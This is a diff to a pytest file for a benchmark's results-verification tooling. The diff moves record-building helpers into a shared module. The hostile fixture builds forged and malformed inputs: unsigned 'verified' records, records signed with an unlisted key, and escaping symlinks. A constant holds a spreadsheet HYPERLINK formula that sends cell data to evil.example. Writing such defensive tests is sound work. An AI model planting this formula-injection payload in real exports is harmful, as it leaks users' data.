@@ -5,7 +5,6 @@ terminal."""
 from __future__ import annotations
 
 import csv
-import json
 import shutil
 import subprocess
 import uuid
@@ -17,44 +16,15 @@ import pyarrow as pa
 import pyarrow.parquet as pq
 import pytest
 
-from benchmark.hashing import sha256_file
-from benchmark.records import RECORD_FORMAT, record_name
 from benchmark.results import read_results, scores_path, to_table, write_results
 from benchmark.signing import NAMESPACE, sign_record
+from tests.records import verification_record, write_verification
 
 FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
 
 
-def _record(target: Path, **over) -> dict:
-    return {
-        "format": RECORD_FORMAT,
-        "run_id": read_results(target)["run_id"].iloc[0],
-        "status": "verified",
-        "entry_file": target.name,
-        "entry_sha256": sha256_file(target),
-        "tolerance": 0.005,
-        "max_abs_diff": 0.0,
-        "compared": 192,
-        "mismatches": [],
-        "warnings": [],
-        "checked_at": "2026-01-01T00:00:00+00:00",
-        "reproduced": {
-            "run_id": "0123456789abcdef",
-            "oodbench_version": "0.1.0",
-            "git_commit": "",
-            "device": "cpu",
-            "precision": "fp32",
-            "package_versions": {},
-        },
-        **over,
-    }
-
-
 def _write_record(root: Path, record: dict) -> str:
-    name = record_name(entry_sha256=record["entry_sha256"], run_id=record["run_id"])
-    (root / "verifications").mkdir(exist_ok=True)
-    (root / "verifications" / name).write_text(json.dumps(record, indent=2))
-    return f"verifications/{name}"
+    return str(write_verification(root, record).relative_to(root))
 
 
 @pytest.fixture
@@ -84,8 +54,8 @@ def hostile(tmp_path, demo_run, make_run) -> dict:
     bad["coop/k16-s1.parquet"] = "copy of the same run"
     bad["coop/k16-s1-again.parquet"] = "copy of the same run"
     # a self-written "verified" record, and a malformed one
-    bad[_write_record(root, _record(zs))] = "unsigned"
-    bad[_write_record(root, _record(valid["coop/k4-s1.parquet"], reproduced={}))] = "reproduced.device"
+    bad[_write_record(root, verification_record(zs))] = "unsigned"
+    bad[_write_record(root, verification_record(valid["coop/k4-s1.parquet"], reproduced={}))] = "reproduced.device"
     # a record signed, but by a key nobody listed (the listed reviewer's key is in allowed_signers)
     keys = tmp_path / "keys"
     keys.mkdir()
@@ -93,7 +63,7 @@ def hostile(tmp_path, demo_run, make_run) -> dict:
         subprocess.run(["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-C", name, "-f", str(keys / name)], check=True)
     pub = (keys / "reviewer.pub").read_text().strip()
     (root / "allowed_signers").write_text(f'reviewer@example.org namespaces="{NAMESPACE}" {pub}\n')
-    signed = _write_record(root, _record(valid["coop/k4-s2.parquet"]))
+    signed = _write_record(root, verification_record(valid["coop/k4-s2.parquet"]))
     sign_record(root / signed, key=keys / "stranger")
     bad[signed] = "signer not allowed"
     # a symlink to a file outside the results folder, and one to a folder outside it
